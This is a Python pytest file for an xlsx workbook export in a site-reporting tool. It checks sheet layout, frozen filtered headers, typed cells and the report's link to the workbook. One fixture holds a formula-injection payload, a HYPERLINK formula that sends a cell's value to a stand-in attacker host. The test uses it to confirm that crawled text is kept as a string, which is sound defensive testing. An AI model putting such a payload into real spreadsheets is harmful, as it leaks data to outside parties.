"""The xlsx workbook: one sheet per main table, each opened as a spreadsheet user sees it
(frozen, filterable header; numbers as numbers, instants as dates) and crawled text that
looks like a formula kept as text."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import duckdb
import openpyxl
import pytest
from bs4 import BeautifulSoup

from tests.reports.conftest import Health, Level, add_social_tables, insert_health
from unsilo.reports.exports import existing_tables, export_run
from unsilo.reports.render import render_report
from unsilo.reports.workbook import WORKBOOK_NAME, write_workbook

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def book(con: duckdb.DuckDBPyConnection, shop, db, tmp_path: Path) -> openpyxl.Workbook:
    db.levels(shop.current, [Level("https://shop.example/f", title=FORMULA_TITLE, shares=3)])
    add_social_tables(con)
    insert_health(con, shop.current, [Health("shop@mastodon.example")])
    path = write_workbook(con, shop.current, tmp_path)
    assert path == tmp_path / "exports" / shop.current / WORKBOOK_NAME
    assert [p.name for p in path.parent.iterdir()] == [WORKBOOK_NAME]  # no partial file left
    return openpyxl.load_workbook(path)


def column(sheet, name: str) -> list:
    header = [cell.value for cell in sheet[1]]
    index = header.index(name)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def test_one_sheet_per_main_table_with_frozen_filtered_header(book, shop) -> None:
    assert book.sheetnames == ["findings", "pages", "profile health", "trends"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        last = sheet.cell(sheet.max_row, sheet.max_column).coordinate
        assert sheet.auto_filter.ref == f"A1:{last}", sheet.title
        assert sheet.max_row > 1, sheet.title
        assert "run_id" not in [c.value for c in sheet[1]] or sheet.title == "trends"
    assert len(list(book["pages"].iter_rows(min_row=2))) == len(shop.current_levels) + 1
    assert book["findings"].column_dimensions["A"].width > 10  # sized to the URLs


def test_formula_like_text_is_a_string_cell(book) -> None:
    [cell] = [c for c in column(book["pages"], "title") if c.value == FORMULA_TITLE]
    assert cell.data_type == "s"  # text, not the formula "f"
    assert all(c.data_type != "f" for row in book["pages"].iter_rows() for c in row)


def test_numbers_booleans_and_dates_are_typed(book, shop) -> None:
    pages = book["pages"]
    assert {type(c.value) for c in column(pages, "score")} == {int}
    assert {c.data_type for c in column(pages, "in_sitemap")} == {"b"}
    earned = [c.value for c in column(pages, "earned")]
    assert '["Open Graph complete (+30)"]' in earned  # lists as JSON text
    health = book["profile health"]
    assert [c.value for c in column(health, "engagement_per_follower")] == [0.0104]
    trends = book["trends"]
    started = {c.value for c in column(trends, "started_at")}
    # this site's finished runs up to this one, as dates; the other site's run is not there
    assert started == {dt.datetime(2026, 10, 1, 2), dt.datetime(2026, 11, 1, 2)}
    assert all(c.number_format.startswith("yyyy-mm-dd") for c in column(trends, "started_at"))
    assert {type(c.value) for c in column(trends, "value")} <= {int, float}


def test_a_database_without_social_tables_leaves_that_sheet_out(con, shop, tmp_path) -> None:
    path = write_workbook(con, shop.current, tmp_path)
    assert openpyxl.load_workbook(path).sheetnames == ["findings", "pages", "trends"]


def test_report_links_the_workbook_apart_from_the_table_files(con, shop, tmp_path) -> None:
    out = tmp_path / "out"
    write_workbook(con, shop.current, out)
    export_run(con, shop.current, out, formats=("csv",))
    report = render_report(con, shop.current, out / "report.html", out)
    soup = BeautifulSoup(report.read_text(encoding="utf-8"), "html.parser")
    link = soup.select_one("#workbook-link a")
    assert link["href"] == f"exports/{shop.current}/{WORKBOOK_NAME}"
    assert (out / link["href"]).is_file()
    tables = [li["data-table"] for li in soup.select("#export-links li")]
    assert sorted(tables) == sorted(existing_tables(con))  # the workbook is no table row
